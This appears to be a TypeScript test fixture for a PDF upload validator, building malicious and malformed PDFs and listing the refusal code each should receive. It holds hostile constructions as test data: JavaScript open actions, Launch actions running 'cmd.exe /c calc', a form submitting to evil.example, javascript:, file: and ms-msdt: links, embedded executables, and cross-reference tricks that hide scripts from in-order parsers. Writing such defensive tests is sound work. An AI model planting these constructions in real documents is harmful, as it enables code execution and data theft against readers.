import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { type HostileDocument, hostileDocument } from './upload.hostile-document.fixture.ts';
import {
  modernPdf,
  pdfHead,
  pdfOf,
  pdfOfPages,
  streamOf,
  withPdfObjects,
  xrefStartOf,
} from './upload.pdf.fixture.ts';

const note = (entries: string) => `/Annots[<</Type/Annot/Rect[0 0 9 9]${entries}>>]`;
const action = (entries: string) => `/OpenAction<<${entries}>>`;
const link = (address: string) => note(`/Subtype/Link/A<</S/URI/URI(${address})>>`);

const pdf = (name: string, refused: string, bytes: Buffer): HostileDocument =>
  hostileDocument(`${name}.pdf`, refused, bytes);

const acting = (): HostileDocument[] => {
  const at = (name: string, refused: string, parts: Parameters<typeof pdfOf>[0]) =>
    pdf(name, refused, pdfOf(parts));
  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
  return [
    at('script on opening', 'fileScript JS', { catalog: `/OpenAction${script}` }),
    at('script of the document', 'fileScript JS', {
      catalog: '/Names<</JavaScript<</Names[(a) 5 0 R]>>>>',
      more: { 5: script },
    }),
    at('script spelled by numbers', 'fileScript JS', { catalog: action('/S/Java#53cript/J#53(x)') }),
    at('script by a name elsewhere', 'fileScript JavaScript', {
      catalog: action('/S 5 0 R'),
      more: { 5: '/JavaScript' },
    }),
    at('script in a stream', 'fileScript JS', {
      catalog: action('/S/JavaScript/JS 5 0 R'),
      more: { 5: streamOf('app.alert(1)') },
    }),
    at('script after another action', 'fileScript JS', {
      catalog: action('/S/GoTo/D[3 0 R/Fit]/Next[<</S/JavaScript/JS(x)>>]'),
    }),
    at('script when a page opens', 'fileScript AA', { page: '/AA<</O<</S/Named/N/NextPage>>>>' }),
    at('script of a field', 'fileScript AA', {
      catalog: '/AcroForm<</Fields[5 0 R]>>',
      more: { 5: '<</FT/Tx/T(a)/AA<</K 6 0 R>>>>', 6: '<<>>' },
    }),
    at('form of XFA', 'fileScript XFA', { catalog: '/AcroForm<</Fields[]/XFA(x)>>' }),
    at('program to start', 'fileLaunch Launch', { catalog: action('/S/Launch/F(cmd.exe)') }),
    at('program with parameters', 'fileLaunch Launch', {
      page: note('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>'),
    }),
    at('way to a share', 'fileLaunch GoToR', { catalog: action('/S/GoToR/F(\\\\\\\\host\\\\x.pdf)') }),
    at('way into an embedded file', 'fileLaunch GoToE', { catalog: action('/S/GoToE/T<</R/C>>') }),
    at('thread of another file', 'fileLaunch Thread', { catalog: action('/S/Thread/F(x.pdf)/D 0') }),
    at('form that sends', 'fileSends SubmitForm', {
      page: note('/Subtype/Link/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
    }),
    at('form that reads', 'fileSends ImportData', { catalog: action('/S/ImportData/F(x.fdf)') }),
    at('link with a script', 'fileLink URI', { page: link('javascript:alert(1)') }),
    at('link with a broken script', 'fileLink URI', { page: link(' java\\nscript:alert') }),
    at('link to a file', 'fileLink URI', { page: link('file:///C:/Windows/System32/calc.exe') }),
    at('link to a share', 'fileLink URI', { page: link('\\\\\\\\host\\\\share') }),
    at('link to a tool of the system', 'fileLink URI', { page: link('ms-msdt:/id x') }),
    at('base of all links', 'fileLink URI', { catalog: '/URI<</Base(vbscript:x)>>' }),
    at('embedded files', 'fileEmbedded EmbeddedFiles', { catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }),
    at('embedded program', 'fileEmbedded EF', {
      more: { 5: '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', 6: streamOf('MZ') },
    }),
    at('associated file', 'fileEmbedded AF', { catalog: '/AF[5 0 R]', more: { 5: '<<>>' } }),
    at('file on a page', 'fileEmbedded FileAttachment', {
      page: note('/Subtype/FileAttachment/FS<</F(a)>>'),
    }),
    at('rich media', 'fileMedia RichMedia', { page: note('/Subtype/RichMedia') }),
    at('film', 'fileMedia Movie', { page: note('/Subtype/Movie/Movie<<>>') }),
    at('sound on opening', 'fileMedia Sound', { catalog: action('/S/Sound') }),
    at('rendition', 'fileMedia Rendition', { catalog: action('/S/Rendition/OP 0') }),
    at('screen', 'fileMedia Screen', { page: note('/Subtype/Screen') }),
    at('model', 'fileMedia 3D', { page: note('/Subtype/3D') }),
    at('bytes of another file', 'fileExternal F', { more: { 5: streamOf('', '/F(\\\\\\\\host\\\\x)') } }),
    at('page of another file', 'fileExternal Ref', {
      more: { 5: streamOf('', '/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</Page 0>>') },
    }),
    at('picture from elsewhere', 'fileExternal OPI', {
      more: { 5: streamOf('', '/Type/XObject/Subtype/Form/BBox[0 0 1 1]/OPI<<>>') },
    }),
  ];
};

async function hidden(): Promise<HostileDocument[]> {
  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
  const packed = await PDFDocument.create();
  packed.addPage([200, 200]);
  const { context } = packed;
  const open = context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  packed.catalog.set(PDFName.of('OpenAction'), context.register(open));
  const quiet = pdfOf({ catalog: '/OpenAction 5 0 R', more: { 5: '<</S/GoTo/D[3 0 R/Fit]>>' } });
  // Two objects of a number: the table leads to the one that acts, and whoever reads in order keeps the other.
  const first = pdfOf({ catalog: '/OpenAction 5 0 R', more: { 5: script } });
  const at = first.indexOf('5 0 obj');
  const twice = withPdfObjects(
    first,
    { 5: '<</S/GoTo/D[3 0 R/Fit]>>' },
    { at: { 5: at }, trailer: `/Prev ${xrefStartOf(first)}` },
  );
  // An object in the middle of a stream, to which the table leads alone.
  const inner = `5 0 obj ${script} endobj`;
  const cover = withPdfObjects(pdfHead, { 6: streamOf(inner) }, {});
  const inside = cover.indexOf('5 0 obj');
  const covered = withPdfObjects(pdfHead, {
    6: streamOf(inner),
    1: '<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>',
    2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>',
  });
  const led = withPdfObjects(
    covered,
    { 5: 'null' },
    { at: { 5: inside }, trailer: `/Prev ${xrefStartOf(covered)}` },
  );
  const invalid = pdfOf({ more: { 5: '<</S/JavaScript/JS(x) [ >>' } });
  return [
    pdf('script in packed objects', 'fileScript JS', Buffer.from(await packed.save())),
    pdf('script in a stream of objects', 'fileScript JS', modernPdf({ inner: script })),
    pdf('script in objects that are not called so', 'fileXref', modernPdf({ inner: script, type: '' })),
    pdf('script in the older of two objects', 'fileScript JS', twice),
    pdf('script in an object inside of another', 'fileXref', led),
    pdf('object that is none', 'fileBroken', invalid),
    pdf(
      'script added at the end',
      'fileScript JS',
      withPdfObjects(quiet, { 5: script }, { trailer: `/Prev ${xrefStartOf(quiet)}` }),
    ),
  ];
}

async function broken(): Promise<HostileDocument[]> {
  const good = pdfOf();
  const locked = await PDFDocument.create();
  locked.addPage([200, 200]);
  locked.encrypt({ userPassword: 'secret', ownerPassword: 'other' });
  const owned = await PDFDocument.create();
  owned.addPage([200, 200]);
  owned.encrypt({ userPassword: '', ownerPassword: 'other' });
  const kids = (list: string, count = 1) =>
    pdfOf({ more: { 2: `<</Type/Pages/Kids[${list}]/Count ${count}>>` } });
  const table = good.indexOf('xref\n');
  return [
    pdf('password', 'fileEncrypted', Buffer.from(await locked.save())),
    pdf('password of its owner', 'fileEncrypted', Buffer.from(await owned.save())),
    pdf(
      'encrypted by what it says',
      'fileEncrypted',
      pdfOf({ trailer: '/Encrypt<</Filter/Standard/V 1/R 2>>' }),
    ),
    pdf('no pages', 'fileNoPages', kids('', 0)),
    pdf('10000 pages', 'filePages 2000', pdfOfPages(10_000)),
    pdf('2001 pages', 'filePages 2000', pdfOfPages(2_001)),
    pdf('pages in a circle', 'fileBroken', kids('2 0 R')),
    pdf('page that is none', 'fileBroken', kids('4 0 R')),
    pdf('page that is nowhere', 'fileBroken', kids('99 0 R')),
    pdf('one page twice', 'fileBroken', kids('3 0 R 3 0 R', 2)),
    pdf('count that lies', 'fileBroken', kids('3 0 R', 7)),
    pdf('no catalog', 'fileBroken', withPdfObjects(pdfHead, { 2: '<</Type/Pages/Kids[]/Count 0>>' })),
    pdf('table that is nowhere', 'fileXref', pdfOf({ startxref: 999_999 })),
    pdf('table that is an object', 'fileXref', pdfOf({ startxref: pdfHead.length })),
    pdf('table to another object', 'fileXref', pdfOf({ at: { 3: pdfHead.length } })),
    pdf('table beyond the end', 'fileXref', pdfOf({ at: { 4: 999_999 } })),
    pdf(
      'table of words',
      'fileXref',
      Buffer.from(good.toString('latin1').replace(/\d{10} 00000 n/, 'nowhere 00000 n'), 'latin1'),
    ),
    pdf(
      'table without its trailer',
      'fileXref',
      Buffer.from(good.toString('latin1').replace('trailer', 'trial  '), 'latin1'),
    ),
    pdf('no table', 'fileXref', Buffer.concat([good.subarray(0, table), Buffer.from('%%EOF\n')])),
    pdf('stream of a table that lies', 'fileXref', modernPdf({ catalogAt: 3 })),
    pdf('arrays in arrays', 'fileBroken', pdfOf({ more: { 5: `${'['.repeat(5_000)}${']'.repeat(5_000)}` } })),
    pdf('half of it', 'fileBroken', good.subarray(0, good.length / 2)),
    pdf('archive behind it', 'fileBroken', Buffer.concat([good, Buffer.alloc(5_000, 'PK')])),
    pdf(
      'program before it',
      'fileOther EXE PDF',
      Buffer.concat([Buffer.from('MZ\x90\0\x03\0 junk ', 'latin1'), good]),
    ),
    pdf('page of the web', 'fileOther HTML PDF', Buffer.from('<!doctype html><script>alert(1)</script>')),
    pdf('only its beginning', 'fileBroken', Buffer.from('%PDF-1.7\n')),
    pdf('nothing', 'fileFormat', Buffer.alloc(0)),
  ];
}

/** PDFs that somebody might send, with what each is refused with. */
export async function hostilePdfs(): Promise<HostileDocument[]> {
  return [...acting(), ...(await hidden()), ...(await broken())];
}
